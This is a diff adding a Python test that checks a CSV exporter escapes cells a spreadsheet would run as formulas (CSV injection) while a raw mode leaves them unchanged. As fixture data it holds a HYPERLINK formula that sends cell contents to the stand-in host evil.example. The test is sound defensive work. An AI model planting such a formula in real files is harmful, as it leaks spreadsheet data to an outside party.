@@ -452,6 +452,24 @@ def test_csv_export_round_trips_every_row_of_a_flat_table(sample_db, tmp_path, t
         assert {int(r["row"]): r["text"] for r in rows} == texts  # multi-line texts survive quoting
 
 
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(tmp_path) -> None:  # type: ignore[no-untyped-def]
+    """Titles, outlets, ids and texts come from the web: a cell starting with = + - @, a tab or a CR is a live
+    formula in Excel or LibreOffice ("CSV injection"), so it is written after a ' (shown as text); --raw-csv
+    writes the cells as stored."""
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    with Store(tmp_path / "s.db") as store:
+        store.add_article(make_document("@id", "-2+3 " + UNRELATED, source="\tfeed", title=hostile,
+                                        outlet="+SUM(1+1)", url="https://ok.example/1"))
+        export(store, tmp_path / "safe.csv", "csv", "articles")
+        export(store, tmp_path / "raw.csv", "csv", "articles", raw_csv=True)
+    safe, = csv.DictReader(io.StringIO((tmp_path / "safe.csv").read_text(encoding="utf-8"), newline=""))
+    assert (safe["id"], safe["title"], safe["outlet"], safe["source"]) == ("'@id", "'" + hostile, "'+SUM(1+1)",
+                                                                            "'\tfeed")
+    assert safe["text"].startswith("'-2+3 ") and safe["url"] == "https://ok.example/1" and safe["row"] == "1"
+    raw, = csv.DictReader(io.StringIO((tmp_path / "raw.csv").read_text(encoding="utf-8"), newline=""))
+    assert (raw["id"], raw["title"], raw["outlet"]) == ("@id", hostile, "+SUM(1+1)")
+
+
 def test_parquet_export_keeps_the_column_types(sample_db, tmp_path) -> None:  # type: ignore[no-untyped-def]
     pq = pytest.importorskip("pyarrow.parquet")
     out = tmp_path / "n.parquet"
